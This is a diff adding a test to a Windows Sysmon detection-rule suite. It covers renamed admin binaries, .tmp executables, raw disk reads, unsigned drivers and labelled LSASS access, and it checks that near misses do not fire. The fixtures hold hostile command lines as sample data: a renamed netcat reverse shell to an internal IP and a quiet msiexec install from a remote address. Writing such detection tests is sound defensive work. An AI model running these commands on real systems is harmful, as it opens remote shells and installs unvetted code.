@@ -776,6 +776,47 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(sysmon(17, 12, { EventType: 'CreateKey', Image: PS, TargetObject: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging' }))).not.toContain(LOG);
   });
 
+  it('Sysmon classes of Hayabusa\'s Sysmon rules: events the configuration labelled carry its techniques (informational), LOLBins and user-folder programs under another name, .tmp images, raw reads by script hosts, driver signatures that do not verify; near misses are not', () => {
+    const S32 = 'C:\\Windows\\System32\\';
+    const LABEL = 'Event Labelled By The Sysmon Configuration';
+    const labelled = analyzeEvents([sysmon(1, 10, { RuleName: 'technique_id=T1003.001,technique_name=LSASS Memory', SourceImage: 'C:\\Program Files\\App\\app.exe', TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1000' })], { sigma: builtin });
+    const row = labelled.detections?.summary().find((d) => d.title === LABEL);
+    expect(row).toMatchObject({ level: 'informational', techniques: ['T1003.001'], tactics: ['credential-access'] });
+    expect(titlesOf(sysmon(2, 10, { RuleName: '-', SourceImage: 'C:\\Program Files\\App\\app.exe', TargetImage: `${S32}notepad.exe`, GrantedAccess: '0x1000' }))).not.toContain(LABEL);
+    expect(titlesOf(sysmon(3, 13, { RuleName: '', EventType: 'SetValue', Image: 'C:\\Program Files\\App\\app.exe', TargetObject: 'HKLM\\SOFTWARE\\App\\x', Details: '1' }))).not.toContain(LABEL);
+    const p1 = (t: number, image: string, ofn: string | null, cmd: string): ReturnType<typeof makeEvent> =>
+      sysmon(t, 1, { Image: image, ...(ofn === null ? {} : { OriginalFileName: ofn }), CommandLine: cmd, ParentImage: 'C:\\Windows\\explorer.exe', User: 'CORP\\bob', IntegrityLevel: 'Medium' });
+    const LOLBIN = 'Proxy Or Admin Binary Run Under Another Name';
+    expect(hits([p1(4, 'C:\\Users\\Public\\ck.exe', 'cmdkey.exe', 'ck.exe /list')]).get(LOLBIN)).toEqual({ level: 'high', tactics: ['stealth'] });
+    expect(titlesOf(p1(5, 'C:\\ProgramData\\x\\m.exe', 'msiexec.exe', 'm.exe /q /i http://198.51.100.7/a.msi'))).toContain(LOLBIN);
+    expect(titlesOf(p1(6, `${S32}PING.EXE`, 'ping.exe', 'ping -n 1 10.0.0.5'))).not.toContain(LOLBIN);
+    expect(titlesOf(p1(7, `${S32}msiexec.exe`, 'msiexec.exe', 'msiexec.exe /V'))).not.toContain(LOLBIN);
+    // Older Sysmon schemas without OriginalFileName: nothing to compare.
+    expect(titlesOf(p1(8, 'C:\\Users\\Public\\ck.exe', null, 'ck.exe /list'))).not.toContain(LOLBIN);
+    const RENAMED = 'Program In A User-Writable Folder Run Under Another Name Than Its Own';
+    expect(hits([p1(9, 'C:\\ProgramData\\update\\chrome_update.exe', 'nc.exe', 'chrome_update.exe 10.0.0.9 4444 -e cmd.exe')]).get(RENAMED)).toEqual({ level: 'low', tactics: ['stealth'] });
+    expect(titlesOf(p1(10, 'C:\\Users\\bob\\Downloads\\putty (1).exe', 'putty.exe', 'putty (1).exe'))).not.toContain(RENAMED);
+    expect(titlesOf(p1(11, 'C:\\Users\\bob\\AppData\\Local\\Programs\\app\\app.exe', 'app.exe', 'app.exe'))).not.toContain(RENAMED);
+    expect(titlesOf(p1(12, 'C:\\Program Files\\Microsoft VS Code\\Code.exe', 'electron.exe', 'Code.exe'))).not.toContain(RENAMED);
+    expect(titlesOf(p1(13, 'C:\\Users\\bob\\Downloads\\setup.exe', '?', 'setup.exe'))).not.toContain(RENAMED);
+    const TMP = 'Program Run From A File With A .tmp Extension';
+    expect(hits([p1(14, 'C:\\Users\\bob\\AppData\\Local\\Temp\\update.tmp', 'update.exe', 'update.tmp /s')]).get(TMP)).toEqual({ level: 'medium', tactics: ['stealth'] });
+    expect(titlesOf(p1(15, 'C:\\Users\\bob\\AppData\\Local\\Temp\\is-4KQ2M.tmp\\setup_app.tmp', '', 'setup_app.tmp /SL5="$1"'))).not.toContain(TMP);
+    expect(titlesOf(p1(16, 'C:\\Windows\\Installer\\MSI1A2B.tmp', null, 'MSI1A2B.tmp'))).not.toContain(TMP);
+    const RAW = 'Raw Disk Read By A Script Host Or Proxy Binary (Sysmon 9)';
+    expect(hits([sysmon(17, 9, { Image: `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, Device: '\\Device\\HarddiskVolume2' })]).get(RAW)).toEqual({ level: 'medium', tactics: ['stealth'] });
+    expect(titlesOf(sysmon(18, 9, { Image: `${S32}svchost.exe`, Device: '\\Device\\HarddiskVolume2' }))).not.toContain(RAW);
+    const DRV = 'Unsigned Or Invalidly Signed Driver Loaded (Sysmon 6)';
+    const drv = (t: number, signed: string, status: string | null): ReturnType<typeof makeEvent> =>
+      sysmon(t, 6, { ImageLoaded: `${S32}drivers\\x.sys`, Signed: signed, Signature: 'Vendor', ...(status === null ? {} : { SignatureStatus: status }) });
+    expect(hits([drv(19, 'true', 'Bad Digest')]).get(DRV)?.level).toBe('high');
+    expect(titlesOf(drv(20, 'true', 'Revoked'))).toContain(DRV);
+    expect(titlesOf(drv(21, 'false', 'Unavailable'))).toContain(DRV);
+    expect(titlesOf(drv(22, 'false', null))).toContain(DRV);
+    expect(titlesOf(drv(23, 'true', 'Valid'))).not.toContain(DRV);
+    expect(titlesOf(drv(24, 'true', null))).not.toContain(DRV);
+  });
+
   it('process creation and PowerShell logs: BITS notify commands, Office automation and SQL Server shells, downloads, version 2, user-folder scripts, at, logging services, SDelete, remote access and session tools; near misses are not', () => {
     const S32 = 'C:\\Windows\\System32\\';
     const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
